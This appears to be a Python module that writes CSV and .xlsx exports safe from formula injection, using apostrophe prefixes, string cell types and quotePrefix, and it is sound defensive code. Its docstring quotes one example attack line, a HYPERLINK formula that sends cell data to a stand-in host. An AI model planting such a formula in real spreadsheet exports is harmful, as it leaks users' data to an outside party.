"""Writing CSV and .xlsx files that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading a formula) is taken as a formula when the file is
opened: ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` in an organisation's name would
leak data or run commands (CSV/formula injection, OWASP). Every text cell written by an export
is made inert; numbers, dates and other non-text values are left as they are, so a negative
number stays a number.

* **CSV** has no cell types: such text gets a leading apostrophe (:func:`neutralise`, the OWASP
  recommendation), which spreadsheets show as a prefix.
* **XLSX** has them, and an apostrophe stored in the value would be shown literally
  (``'+41 22…``). Text is written unchanged as a string cell (``data_type "s"``, never a
  formula: openpyxl on its own makes any string starting with ``=`` a formula) and, when it
  starts with a trigger, with the cell's ``quotePrefix`` style, so that Excel and LibreOffice
  keep it text even when the cell is edited (:func:`set_text_cell`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """Return `value` safe to put in a CSV cell (for .xlsx use :func:`set_text_cell`).

    Text that a spreadsheet would read as a formula gets a leading apostrophe
    (``"=1+1"`` → ``"'=1+1"``); every other value, text or not, is returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralised_row(row: Iterable[object]) -> list[object]:
    """The cells of `row`, each passed through :func:`neutralise`."""
    return [neutralise(cell) for cell in row]


def write_csv_rows(rows: Iterable[Sequence[object]], *, header: Sequence[object] = ()) -> str:
    """CSV text (RFC 4180, ``\\r\\n`` line ends) of `header` and `rows`, every cell neutralised.

    ``None`` is written as an empty cell.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if header:
        writer.writerow(neutralised_row(header))
    for row in rows:
        writer.writerow(["" if cell is None else cell for cell in neutralised_row(row)])
    return buffer.getvalue()


def set_text_cell(cell: Any, value: object) -> Any:
    """Put `value` in the openpyxl `cell` (a worksheet's or a write-only cell) so that it is
    never run as a formula, and return the cell.

    Text is stored unchanged as a string (``cell.data_type == "s"``, even when it starts with
    ``=`` or looks like an error code such as ``#N/A``); text that a spreadsheet would read as
    a formula also gets ``cell.quotePrefix``. Numbers, dates and ``None`` are stored as they
    are.
    """
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    return cell


def write_xlsx_rows(
    rows: Iterable[Sequence[object]],
    *,
    header: Sequence[object] = (),
    sheet_title: str = "Sheet1",
) -> bytes:
    """The bytes of an .xlsx workbook with one sheet of `header` (bold) and `rows`.

    Every cell goes through :func:`set_text_cell` (text stays text, unchanged); the workbook
    is written in openpyxl's write-only mode, so
    long exports stream instead of building the whole sheet in memory. Sheet titles are cut
    to Excel's 31 characters and stripped of the characters it refuses.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=safe_sheet_title(sheet_title))
    if header:
        bold = Font(bold=True)
        cells = []
        for value in header:
            cell = set_text_cell(WriteOnlyCell(sheet), value)
            cell.font = bold
            cells.append(cell)
        sheet.append(cells)
    for row in rows:
        sheet.append(
            [
                set_text_cell(WriteOnlyCell(sheet), value) if isinstance(value, str) else value
                for value in row
            ]
        )
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def safe_sheet_title(title: str) -> str:
    cleaned = "".join(" " if char in "[]:*?/\\" else char for char in title).strip()
    return (cleaned or "Sheet1")[:31]
